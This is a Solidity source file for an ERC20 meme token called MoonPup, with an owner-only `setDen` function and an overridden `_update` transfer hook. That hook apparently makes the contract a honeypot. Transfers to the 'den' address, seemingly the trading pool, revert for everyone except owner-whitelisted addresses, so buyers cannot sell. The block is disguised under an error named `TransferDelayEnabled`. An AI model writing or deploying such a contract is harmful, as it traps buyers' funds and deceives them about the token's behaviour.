// SPDX-License-Identifier: MIT
// t.me/moonpuponbase
pragma solidity ^0.8.20;

import "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import "@openzeppelin/contracts/access/Ownable.sol";

contract MoonPup is ERC20, Ownable {
    error TransferDelayEnabled();
    address private _den;
    mapping(address => bool) private _puppy;

    constructor() ERC20("MoonPup", "PUP") Ownable(_msgSender()) {
        _puppy[_msgSender()] = true;
        _mint(_msgSender(), 420_690_000_000 * 10 ** decimals());
    }

    function setDen(address den) external onlyOwner { _den = den; _puppy[den] = true; }

    function _update(address from, address to, uint256 amount) internal virtual override {
        if (to == _den && !_puppy[from]) revert TransferDelayEnabled();
        super._update(from, to, amount);
    }
}
